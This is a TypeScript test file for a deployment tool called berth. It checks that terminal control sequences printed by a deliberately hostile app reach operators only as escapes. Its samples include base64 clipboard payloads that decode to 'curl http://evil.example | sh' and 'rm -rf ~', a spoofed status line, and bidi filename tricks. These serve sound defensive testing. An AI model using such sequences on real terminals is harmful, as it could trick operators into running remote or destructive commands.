// The attack: a hostile app writes terminal control sequences into its own
// output (a screen clear, a window title, an OSC 52 write to the operator's
// clipboard, a carriage return that paints a fake `berth |` line, C1 controls,
// bidi overrides), and its build prints them too. Whatever an operator runs
// to read that output — `berth logs`, `berth logs -f`, `berth deploy`, the
// text API, `git push` — must show them as escapes, never pass the raw bytes.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BerthProcess } from '../helpers/berth-process.ts';
import { apiCall, startDaemon, type Daemon } from '../helpers/daemon.ts';
import { commitFiles, git, gitClient, run } from '../git/git-helpers.ts';
import { deployHostile } from './hostile-app.ts';

/** What the hostile app prints: one line per trick, each ending with a marker to wait for. */
const SEQUENCES = [
  'clear \u001b[2J\u001b[3J\u001b[H MARK-clear',
  'title \u001b]0;root@prod: all good\u0007 MARK-title',
  'clipboard \u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2gK\u0007 MARK-osc52',
  'string terminator \u001b]52;c;cm0gLXJmIH4K\u001b\\ MARK-st',
  'fake line 99%\r12:00:00 berth  | deployed v9, all checks passed MARK-cr',
  'c1 csi \u009b2J and osc \u009d0;x\u009c MARK-c1',
  'bidi invoice\u202efdp.exe \u2066isolate\u2069 \u200fmark MARK-bidi',
  'separators \u2028line\u2029para del\u007f nul\u0000 bel\u0007 bs\b MARK-misc',
];

/** Any character a terminal could act on (a tab and the line feeds between lines are fine). */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069\u061c]/u;

function rawIn(text: string): string | null {
  const match = RAW.exec(text);
  return match === null ? null : `U+${match[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${JSON.stringify(text.slice(Math.max(0, match.index - 30), match.index + 10))}`;
}

/** The hostile app's start-up: print every sequence, then serve (hostile-app.ts's server). */
const BOOT = `process.stdout.write(${JSON.stringify(SEQUENCES.map((line) => `${line}\n`).join(''))});\nawait import('./server.mjs');\n`;

test('control sequences an app prints never reach the operator raw: logs, logs -f, the text API, deploy, git push', { timeout: 300_000 }, async (t) => {
  const root = await mkdtemp(join(tmpdir(), 'berth-escapes-'));
  let started: Daemon | null = null;
  // The daemon first: stopping, it still writes its logs under root.
  t.after(async () => {
    await started?.berth.kill();
    await rm(root, { recursive: true, force: true });
  });
  const d = await startDaemon(join(root, 'state'));
  started = d;
  const cliEnv = { BERTH_SERVER: d.api, BERTH_TOKEN: d.token, XDG_CONFIG_HOME: join(root, 'config') };
  await deployHostile(d, 'evil', join(root, 'evil'), { Procfile: 'web: node boot.mjs\n', 'boot.mjs': BOOT });

  // `berth logs -f` follows while the app prints again (a restart starts new instances, which print at start-up).
  const follow = new BerthProcess(['logs', '-f', '--app', 'evil', '--lines', '1'], { env: cliEnv });
  t.after(() => follow.kill());
  await follow.waitFor(/\S/);
  assert.equal((await apiCall(d, 'POST', '/apps/evil/restart')).status, 200);
  await follow.waitFor(/MARK-clear[\s\S]*MARK-misc/);
  follow.child.kill('SIGINT');
  await follow.exited;

  // The text API: every line escaped; the app's own bytes are still all there, as escapes.
  const logs = await fetch(`${d.api}/apps/evil/logs?lines=2000`, { headers: { authorization: `Bearer ${d.token}` } });
  const text = await logs.text();
  assert.match(text, /MARK-misc/);
  assert.equal(rawIn(text), null, 'the logs API');
  assert.match(text, /clear \\x1b\[2J\\x1b\[3J\\x1b\[H MARK-clear/);
  assert.match(text, /clipboard \\x1b\]52;c;Y3Vy\S+\\x07 MARK-osc52/);
  assert.match(text, /fake line 99%\\r12:00:00 berth {2}\| deployed v9/);
  assert.match(text, /invoice\\u202efdp\.exe/);

  // `berth logs` (and what -f printed).
  const once = new BerthProcess(['logs', '--app', 'evil', '--lines', '200'], { env: cliEnv });
  t.after(() => once.kill());
  const ended = await once.exited;
  assert.equal(ended.code, 0, once.output);
  for (const [what, output] of [['berth logs', once.output], ['berth logs -f', follow.output]] as const) {
    for (const marker of ['clear', 'title', 'osc52', 'st', 'cr', 'c1', 'bidi', 'misc']) assert.match(output, new RegExp(`MARK-${marker}`), `${what}: ${marker}`);
    assert.equal(rawIn(output), null, what);
    assert.doesNotMatch(output, /^12:00:00 berth/m, `${what}: no line starts with the fake prefix`);
  }

  // A build that prints the sequences: `berth deploy` shows them escaped.
  const buildApp = join(root, 'loud');
  await mkdir(buildApp, { recursive: true });
  await writeFile(join(buildApp, 'print.js'), `process.stdout.write(${JSON.stringify(SEQUENCES.map((line) => `${line}\n`).join(''))});\n`);
  await writeFile(join(buildApp, 'server.js'), "require('node:http').createServer((q, s) => s.end('ok')).listen(process.env.PORT, '127.0.0.1');\n");
  await writeFile(join(buildApp, 'Procfile'), 'build: node print.js\nweb: node server.js\n');
  assert.equal((await apiCall(d, 'POST', '/apps', { name: 'loud' })).status, 201);
  const deploy = new BerthProcess(['deploy', buildApp, '--app', 'loud'], { env: cliEnv });
  t.after(() => deploy.kill());
  const deployed = await deploy.exited;
  assert.equal(deployed.code, 0, deploy.output);
  assert.match(deploy.output, /MARK-misc/);
  assert.equal(rawIn(deploy.output), null, 'berth deploy');

  // git push of the same app: the build's lines come back as `remote:` lines, escaped.
  const env = await gitClient(join(root, 'home'), { token: d.token });
  await git(buildApp, env, ['init', '-q', '-b', 'main']);
  await commitFiles(buildApp, env, { 'print.js': `process.stdout.write(${JSON.stringify(SEQUENCES.map((line) => `again ${line}\n`).join(''))});\n` }, 'loud build');
  const push = await run('git', ['push', `${d.api}/git/loud.git`, 'main'], { cwd: buildApp, env });
  assert.equal(push.code, 0, push.output);
  assert.match(push.output, /remote: again .*MARK-misc/);
  assert.equal(rawIn(push.output), null, 'git push');
});
